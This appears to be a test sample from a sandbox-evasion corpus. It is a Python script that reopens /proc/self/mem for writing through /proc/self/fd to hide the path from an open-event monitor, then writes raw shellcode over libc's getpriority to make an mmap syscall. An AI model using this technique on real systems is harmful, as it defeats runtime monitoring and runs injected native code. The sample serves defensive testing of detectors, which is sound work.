# family: procmem
# reaches: native_code
# layer: runtime
# static: missed
# Reading /proc/self/mem is allowed; its descriptor is then reopened for writing through
# /proc/self/fd with dir_fd (the "open" event shows only "5", relative to the workspace).
import os
import struct


def libc_function(name):
    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:  # SHT_DYNSYM
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value
    raise LookupError(name)


ro = os.open("/proc/self/mem", os.O_RDONLY)
fds = os.open("/proc/self/fd", os.O_RDONLY | os.O_DIRECTORY)
mem = os.open(str(ro), os.O_RDWR, dir_fd=fds)
# mmap(NULL, 4096, PROT_READ|PROT_EXEC, ... , prot with high bits set); ret
code = bytes.fromhex("31ffbe0010000048ba050000000100000041ba2200000049c7c0ffffffff4531c9b8090000000f05c3")
os.pwrite(mem, code, libc_function(b"getpriority"))
print("mmap returned", hex(os.getpriority(0, 0) & 0xFFFFFFFF))
